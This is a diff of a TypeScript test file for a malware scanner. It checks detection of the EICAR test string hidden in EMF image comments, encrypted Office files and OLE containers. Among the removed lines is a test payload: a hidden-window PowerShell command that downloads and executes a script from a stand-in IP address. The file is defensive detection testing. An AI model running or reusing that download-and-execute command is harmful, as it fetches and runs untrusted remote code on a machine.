@@ -1,67 +1,25 @@
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { readFileSync } from 'node:fs';
 import { inflateSync } from 'node:zlib';
-import { afterAll, describe, expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { z } from 'zod';
-import { SCAN_LIMITS } from '#scanner/reading/limits.ts';
-import type { Examination } from '#scanner/walk/examination.ts';
-import { examine } from '#scanner/walk/examine.ts';
+import { ole } from '#test/containers.ts';
+import { examined } from '#test/examined.ts';
 import { EICAR, zip } from '#test/files.ts';
-import { PIECES } from '#test/grammar/piece-wrappers.ts';
-import { findProgram, openWriters } from '#test/grammar/writers.ts';
-import { needing } from '#test/needs.ts';
-import { packRules } from '#test/pack-rules.ts';
-import { Chance } from '#test/structure-fuzz.ts';
 
-const folder = mkdtempSync(join(tmpdir(), 'palisade-pieces-'));
-const writers = openWriters();
-afterAll(() => {
-  writers.close();
-  rmSync(folder, { recursive: true, force: true });
-});
-const SCRIPT = `powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"`;
-
-async function examined(content: Buffer, name = 'file', password?: string): Promise<Examination> {
-  const path = join(folder, 'upload');
-  writeFileSync(path, content);
-  return await examine(
-    { path, size: content.length, name },
-    {
-      match: (bytes, onPlaces) => packRules.match(bytes, onPlaces),
-      limits: SCAN_LIMITS,
-      folder: join(folder, 'unpacked'),
-      password,
-    },
-  );
-}
-
-describe('a threat is found', () => {
-  for (const { name, wrap, takes, ending, needs = [] } of PIECES) {
-    const hasWriters = needs.every((program) => findProgram(program) !== undefined);
-    needing('other readers', hasWriters).test(name, async () => {
-      const kind = takes === undefined || takes.includes('line') ? 'line' : takes.includes('archive') ? 'archive' : 'text';
-      const payload = { line: EICAR, archive: zip([{ name: 'eicar.com', content: EICAR }]), text: Buffer.from(SCRIPT) }[kind];
-      const content = await wrap({ bytes: payload, name: 'eicar.com', kind }, { writers, chance: new Chance(1) });
-      expect((await examined(content, `file.${ending}`)).threat).not.toBeNull();
-    });
-  }
-
-  test('behind a picture of Windows, in a comment of it', async () => {
-    const record = (type: number, body: Buffer) => {
-      const head = Buffer.alloc(8);
-      head.writeUInt32LE(type, 0);
-      head.writeUInt32LE(8 + body.length, 4);
-      return Buffer.concat([head, body]);
-    };
-    const header = Buffer.alloc(80);
-    header.write(' EMF', 32, 'latin1');
-    const length = Buffer.alloc(4);
-    length.writeUInt32LE(EICAR.length);
-    const file = Buffer.concat([record(1, header), record(70, Buffer.concat([length, EICAR])), record(14, Buffer.alloc(12))]);
-    file.writeUInt32LE(file.length, 48);
-    expect((await examined(file)).threat_member).toBe('comment at 100');
-  });
+test('behind a picture of Windows, in a comment of it', async () => {
+  const record = (type: number, body: Buffer) => {
+    const head = Buffer.alloc(8);
+    head.writeUInt32LE(type, 0);
+    head.writeUInt32LE(8 + body.length, 4);
+    return Buffer.concat([head, body]);
+  };
+  const header = Buffer.alloc(80);
+  header.write(' EMF', 32, 'latin1');
+  const length = Buffer.alloc(4);
+  length.writeUInt32LE(EICAR.length);
+  const file = Buffer.concat([record(1, header), record(70, Buffer.concat([length, EICAR])), record(14, Buffer.alloc(12))]);
+  file.writeUInt32LE(file.length, 48);
+  expect((await examined(file)).threat_member).toBe('comment at 100');
 });
 
 describe('OpenPGP', () => {
@@ -97,7 +55,7 @@ describe('an Office document behind a password', () => {
   test('is opened with the password that was given, and pending without it', async () => {
     const file = fileOf('agile, another password');
     expect(await examined(file)).toMatchObject({ threat: null, unread: ['encrypted'], coverage: { encrypted: 1 } });
-    expect((await examined(file, 'a.xlsx', 'secret')).threat).toBe('EICAR-Test-File');
+    expect((await examined(file, { password: 'secret' })).threat).toBe('EICAR-Test-File');
   });
 });
 
@@ -109,7 +67,6 @@ test('a section of OneNote that is packed for the way is pending', async () => {
 });
 
 test('sectors that no stream of an OLE file uses are examined as they are, and are no fault', async () => {
-  const { ole } = await import('#test/containers.ts');
   const file = ole([
     { name: 'First', content: Buffer.alloc(6000, 'a') },
     { name: 'Second', content: zip([{ name: 'eicar.com', content: EICAR }]) },
